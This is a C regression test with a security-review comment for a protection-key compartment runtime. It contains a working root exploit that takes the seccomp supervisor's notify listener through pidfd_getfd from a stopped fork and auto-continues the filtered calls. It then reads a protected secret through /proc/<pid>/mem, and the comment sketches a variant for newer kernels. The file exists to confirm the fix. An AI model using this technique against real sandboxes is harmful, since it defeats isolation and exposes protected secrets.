// Review 32, attacker model B (the default domain's program counter, any
// system call the filter allows), as root. pidfd_getfd is not in the
// filter's list, and pidfd_open is refused for the supervisor's pid only.
// Where the supervisor runs as root it sends a pidfd_send_signal from a
// fork of its own (supervisor-signal.c send_as), which holds copies of
// all its descriptors, the seccomp listener of our filter among them,
// until it exits. That fork's pid is a new process's: pidfd_open lets it
// through, kill(SIGSTOP) stops it (the filter refuses signals to the
// supervisor's pid only), and pidfd_getfd copies its listener into our
// process (the ptrace access it needs is root's: CAP_SYS_PTRACE passes
// the supervisor's non-dumpable state). The supervisor meanwhile waits
// for that fork in waitpid, for good: every notified call is now ours
// to answer. A thread answers SECCOMP_USER_NOTIF_FLAG_CONTINUE, and the
// kernel carries out what the supervisor would have refused.
// On Linux 6.9 and later (not the guest's 6.1) there is a shorter way,
// reasoned, not run: pidfd_open(a supervisor thread's id, PIDFD_THREAD)
// (its ids are in /proc/<supervisor>/task, review 31), pidfd_getfd of
// the listener, and tkill of the supervisor (review 31's XFAIL).
//
// Here main forks a child that keeps a copy of the vault's memory and
// sleeps; a thread asks pidfd_send_signal(child, 0) again and again; main
// probes the pids after the last it knows with pidfd_open, stops each new
// process with SIGSTOP and looks for a "seccomp notify" descriptor in it
// with pidfd_getfd. With the listener, a thread answers CONTINUE, and
// main opens /proc/<child>/mem (the supervisor refuses every mem file):
// protection keys do not apply to another process's memory, and the
// default domain reads the vault's secret. The control takes nothing and
// opens the same file: refused.
//
// Seen in the guest (root, one run of the attack by hand, Linux 6.1):
// "listener taken: fd 5, from process 98", then ATTACK SUCCEEDED with the
// vault's secret. The control's refusal (bulkhead: denied: openat of
// "/proc/<child>/mem") was seen under lit with this review's first
// version of the test (the same open); this version's control not run.
//
// Fixed: the filter refuses pidfd_getfd (runtime/bpf.c; the supervisor,
// outside the filter, makes its own). Open: the signal-sending fork still
// holds the supervisor's descriptors, and a stopped one still stalls the
// supervisor (availability).
// REQUIRES: pku
// RUN: rm -rf %t && mkdir %t
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: %run %t/prog control > %t/control.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=CONTROL < %t/control.out
// RUN: %run %t/prog attack > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CONTROL: uid 0
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: bulkhead: denied: open{{.*}}/mem
// CHECK: uid 0
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: denied: pidfd_getfd{{.*}}taking another process's descriptor could take the supervisor's
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <bulkhead.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

static int child_pidfd;
static volatile pid_t trigger_tid;

/* Each call has the supervisor (root) fork to send it. */
static void *trigger(void *arg) {
  (void)arg;
  trigger_tid = (pid_t)syscall(SYS_gettid);
  for (;;)
    syscall(SYS_pidfd_send_signal, child_pidfd, 0, NULL, 0);
  return NULL;
}

/* Every notified call of ours goes on, as without a filter. */
static void *answer(void *arg) {
  int l = (int)(long)arg;
  for (;;) {
    struct seccomp_notif n;
    memset(&n, 0, sizeof n);
    if (ioctl(l, SECCOMP_IOCTL_NOTIF_RECV, &n))
      continue;
    struct seccomp_notif_resp r = {n.id, 0, 0, SECCOMP_USER_NOTIF_FLAG_CONTINUE};
    ioctl(l, SECCOMP_IOCTL_NOTIF_SEND, &r);
  }
  return NULL;
}

/* The listener among process pfd's descriptors, copied; -1 if none. */
static int take_listener(int pfd) {
  for (int fd = 0; fd < 256; fd++) {
    int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
    if (g < 0)
      continue;
    char link[64], what[128] = "";
    snprintf(link, sizeof link, "/proc/self/fd/%d", g);
    if (readlink(link, what, sizeof what - 1) > 0 &&
        strstr(what, "seccomp notify"))
      return g;
    close(g);
  }
  return -1;
}

int main(int argc, char **argv) {
  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
  fflush(stdout);
  if (argc < 2)
    return 2;
  pid_t child = fork();
  if (child == 0) {
    sleep(60); /* a copy of the vault's page, its key too */
    _exit(0);
  }
  pid_t stopped = 0;
  int listener = -1;
  if (!strcmp(argv[1], "attack")) {
    child_pidfd = (int)syscall(SYS_pidfd_open, child, 0);
    pthread_t t;
    pthread_create(&t, NULL, trigger, NULL);
    while (!trigger_tid)
      usleep(1000);
    pid_t hi = trigger_tid > child ? trigger_tid : child;
    time_t end = time(NULL) + 60;
    for (long pass = 1; listener < 0 && time(NULL) < end; pass++) {
      for (pid_t g = hi + 1; g <= hi + 64 && listener < 0; g++) {
        int pfd = (int)syscall(SYS_pidfd_open, g, 0);
        if (pfd < 0)
          continue;
        kill(g, SIGSTOP);
        listener = take_listener(pfd);
        if (listener >= 0)
          stopped = g;
        else
          kill(g, SIGCONT);
        close(pfd);
        hi = g; /* tried: the next ones are newer */
      }
      if (pass % 256 == 0) { /* missed some: find where pids are now */
        pid_t p = fork();
        if (p == 0)
          _exit(0);
        if (p > 0) {
          waitpid(p, NULL, 0);
          hi = p;
        }
      }
    }
    printf("listener taken: fd %d, from process %d\n", listener, (int)stopped);
    fflush(stdout);
    if (listener >= 0) {
      pthread_t a;
      pthread_create(&a, NULL, answer, (void *)(long)listener);
    }
  }
  char path[64], got[32] = "";
  snprintf(path, sizeof path, "/proc/%d/mem", (int)child);
  int m = open(path, O_RDONLY);
  if (m >= 0 && pread(m, got, 20, (off_t)(uintptr_t)secret) == 20 &&
      !memcmp(got, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: the vault's secret, read with the "
           "supervisor's listener: %.20s\n", got);
  else
    printf("open %s: %d\n", path, m);
  fflush(stdout);
  if (stopped)
    kill(stopped, SIGKILL); /* the supervisor's waitpid returns */
  kill(child, SIGKILL);
  _exit(0); /* the trigger thread may wait for good */
}
